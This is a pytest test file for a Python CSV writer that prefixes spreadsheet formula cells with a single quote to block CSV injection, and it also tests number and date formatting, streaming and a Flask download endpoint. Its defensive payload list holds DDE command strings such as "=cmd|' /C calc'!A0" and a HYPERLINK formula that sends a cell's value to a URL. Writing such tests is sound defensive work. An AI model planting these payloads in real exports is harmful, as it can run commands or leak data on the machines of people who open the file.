"""CSV out (bench.csvout, the one CSV writer): no cell a spreadsheet would run.

The cases are OWASP's "CSV Injection" list (https://owasp.org/www-community/attacks/
CSV_Injection: cells starting with =, +, -, @, tab, carriage return or line feed) and
ASVS 5.0 V1.2.10 (which adds NUL), each also behind leading spaces, which spreadsheets
skip before deciding a cell is a formula. The remedy is OWASP's: prefix the cell with a
single quote, so the spreadsheet shows the text as written.
"""

from __future__ import annotations

import codecs
import csv
import io
import math
from datetime import UTC, date, datetime
from decimal import Decimal
from enum import StrEnum
from zoneinfo import ZoneInfo

import numpy as np
import pandas as pd
import pytest
from flask import Flask, request

from bench.csvout import (
    CHUNK_CHARS,
    csv_download,
    download,
    neutralise,
    rows_to_bytes,
    rows_to_csv,
)

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-5+cmd|' /C calc'!A0",
    "-5",  # text that merely looks like a number is still text (see test below)
    "@SUM(A1:A9)",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\nplain",
    "\x00=1+1",
    " =1+1",
    "   +1",
    "  -1+1",
    " @SUM(A1)",
    "\u00a0=1+1",  # a no-break space is a space to a spreadsheet too
    " \t=1",
    # OWASP's two examples, and the cases of REVIEWS-AND-EXPORTS.md 8.4.
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "  =1+1",
    "\t=1",
    '=HYPERLINK("http://x","y")',
    "|calc",  # DDE in some spreadsheets
    "%0A",  # a line feed to tools that URL-decode
    "  |calc",
    " %0A=1+1",
    # Blanks a reader cannot see, before a trigger.
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # a byte order mark in the middle of a file
    "\u3000=1+1",  # ideographic space
    "\u2028=1+1",  # line separator
    "\u00a0\u00a0-1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_neutralised(cell):
    written = neutralise(cell)
    assert written == "'" + cell
    # And the whole writer: the cell reads back as the quoted text, in one cell.
    read = list(csv.reader(io.StringIO("".join(rows_to_csv(["a", "b"], [[cell, 1]])))))
    assert read[1] == ["'" + cell, "1"]


@pytest.mark.parametrize(
    "cell",
    [
        "plain text",
        "1-2 people",
        "a=b",
        "email@example.com",
        "2022-23",
        "",
        "x\n=1",
        " plain",
        "\u00a0plain",
        "   ",
        "'quoted",
        "50%",
        "a|b",
        "Môn",
    ],
)
def test_ordinary_text_is_unchanged(cell):
    assert neutralise(cell) == cell


@pytest.mark.parametrize(
    ("number", "written"),
    [
        (-5, "-5"),
        (-5.0, "-5"),
        (-0.25, "-0.25"),
        (12.5, "12.5"),
        (Decimal("-3.50"), "-3.50"),
        (np.float64(-2.5), "-2.5"),
        (np.int64(-7), "-7"),
    ],
)
def test_negative_numbers_stay_numbers(number, written):
    # A value held as a number can only print as digits with a sign and a point: it cannot
    # carry a formula, and a spreadsheet must read it as the number it is. Text is judged
    # by its first character even when it looks like a number ("-5" above): the writer
    # cannot tell a figure from "-5+cmd|..." by looking, only by type, and every figure
    # bench writes is held as a number.
    assert neutralise(number) == written


def test_numbers_that_are_not_finite_are_text():
    # DESIGN.md: NaN and infinities are not numbers; "-inf" would start like a formula.
    assert neutralise(-math.inf) == "'-inf"
    assert neutralise(math.nan) == "nan"


def test_booleans_and_missing_values():
    assert neutralise(True) == "true" and neutralise(None) == ""


# --- what every cell becomes ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (date(2024, 3, 31), "2024-03-31"),
        (datetime(2024, 3, 31, 10, 5, 9, 123456, tzinfo=UTC), "2024-03-31T10:05:09Z"),
        # British Summer Time: written in UTC, so every file reads the same everywhere.
        (datetime(2024, 6, 1, 9, 0, tzinfo=ZoneInfo("Europe/London")), "2024-06-01T08:00:00Z"),
        (False, "false"),
        (1234567, "1234567"),  # no thousands separator
        (1234567.5, "1234567.5"),
        (0.1 + 0.2, "0.30000000000000004"),  # the float as held: rounding is the caller's
        (1e-05, "0.00001"),  # no exponent
        (-2.5e-7, "-0.00000025"),
        (1e16, "10000000000000000"),
        (1e23, "100000000000000000000000"),  # not int(1e23)'s binary digits
        (Decimal("1E+3"), "1000"),
        (Decimal("1E-7"), "0.0000001"),
        (Decimal("12.50"), "12.50"),  # decimal places as held (the indicator's)
        (np.float64(1e-05), "0.00001"),
        (np.int32(12), "12"),
        (np.float32(0.5), "0.5"),
    ],
)
def test_cells_are_written_one_way(cell, written):
    assert neutralise(cell) == written


def test_a_naive_datetime_is_refused():
    # bench holds aware datetimes only; guessing a zone would misstate the time.
    with pytest.raises(ValueError, match="naive datetime"):
        neutralise(datetime(2024, 3, 31, 10, 0))


def test_text_like_subclasses_follow_their_kind():
    class Code(StrEnum):
        BAD = "=1+1"
        GOOD = "within"

    assert neutralise(Code.BAD) == "'=1+1" and neutralise(Code.GOOD) == "within"


# --- the file -------------------------------------------------------------------------------

PAYLOADS = [cell for cell in FORMULAS if "\x00" not in cell]  # pandas stops at NUL
NUMBERS = [-3.2, -5, 0, 12.5, Decimal("-0.10"), 1e-05]


def payload_csv(**options) -> bytes:
    rows = [(payload, number) for payload, number in zip(PAYLOADS, NUMBERS * 10, strict=False)]
    return b"".join(rows_to_bytes(["payload", "figure"], rows, **options))


def test_the_file_is_rfc_4180_utf_8_with_crlf():
    data = payload_csv()
    assert not data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8")
    assert text.startswith("payload,figure\r\n") and text.endswith("\r\n")
    read = list(csv.reader(io.StringIO(text, newline="")))
    # Read back and written again by the csv module with CRLF: the very same text, so every
    # record ends in CRLF and a cell is quoted only when RFC 4180 needs it.
    again = io.StringIO()
    csv.writer(again, lineterminator="\r\n").writerows(read)
    assert again.getvalue() == text
    assert read[0] == ["payload", "figure"]
    assert [row[0] for row in read[1:]] == ["'" + payload for payload in PAYLOADS]


def test_quotes_commas_and_line_ends_survive():
    rows = [['say "hi", then go', "two\r\nlines", "one\nline"], ["", None, "x"]]
    text = "".join(rows_to_csv(["a", "b", "c"], rows))
    assert text.splitlines(keepends=True)[1].startswith('"say ""hi"", then go","two\r\n')
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[1:] == [['say "hi", then go', "two\r\nlines", "one\nline"], ["", "", "x"]]


def test_pandas_reads_payloads_as_text_and_figures_as_numbers():
    frame = pd.read_csv(io.BytesIO(payload_csv()), dtype={"payload": str}, keep_default_na=False)
    assert list(frame["payload"]) == ["'" + payload for payload in PAYLOADS]
    assert frame["figure"].dtype == np.float64
    assert list(frame["figure"][:6]) == [-3.2, -5.0, 0.0, 12.5, -0.1, 1e-05]


def test_a_bom_only_when_asked():
    data = payload_csv(bom=True)
    assert data.startswith(codecs.BOM_UTF8)
    assert data[len(codecs.BOM_UTF8) :] == payload_csv()
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)
    assert list(frame.columns) == ["payload", "figure"]


def test_rows_stream_in_chunks():
    # 50,000 rows come out in bounded chunks that read back as one file, and the rows are
    # drawn as the chunks are taken: never the whole file in memory.
    drawn = 0

    def rows():
        nonlocal drawn
        for number in range(50_000):
            drawn += 1
            yield (f"peer-{number % 400:03d}", number / 7, None, True)

    stream = rows_to_bytes(["label", "value", "lower", "flag"], rows())
    first = next(stream)
    assert drawn < 50_000
    chunks = [first, *stream]
    assert len(chunks) > 10
    assert max(len(chunk) for chunk in chunks) < 2 * CHUNK_CHARS
    assert b"".join(chunks).count(b"\r\n") == 50_001


def test_a_row_of_the_wrong_width_stops_the_file():
    with pytest.raises(ValueError, match="2 cells, the header 3"):
        list(rows_to_csv(["a", "b", "c"], [(1, 2, 3), (1, 2)]))


# --- the download ---------------------------------------------------------------------------


@pytest.fixture
def downloads():
    app = Flask(__name__)

    @app.get("/table.csv")
    def table():
        return csv_download(
            "bench-comparison-2024-03-31.csv",
            ["label", "value"],
            [("=1+1", -3.2), ("peer-02", None)],
            bom=request.args.get("bom") == "1",
            headers={"X-Bench-As-Of": "2024-03-31", "X-Bench-Data-Version": "17"},
        )

    return app.test_client()


def test_a_download_is_named_typed_and_carries_its_provenance(downloads):
    response = downloads.get("/table.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="bench-comparison-2024-03-31.csv"'
    )
    assert response.headers["X-Bench-As-Of"] == "2024-03-31"
    assert response.headers["X-Bench-Data-Version"] == "17"
    assert response.is_streamed
    assert response.get_data() == b"label,value\r\n'=1+1,-3.2\r\npeer-02,\r\n"
    assert downloads.get("/table.csv?bom=1").get_data().startswith(codecs.BOM_UTF8 + b"label")


@pytest.mark.parametrize("name", ["Content-Disposition", "content-type"])
def test_extra_headers_never_rename_or_retype_a_download(name):
    with pytest.raises(ValueError, match="sets its own"):
        download("a.csv", [b""], "text/csv", headers={name: "inline"})
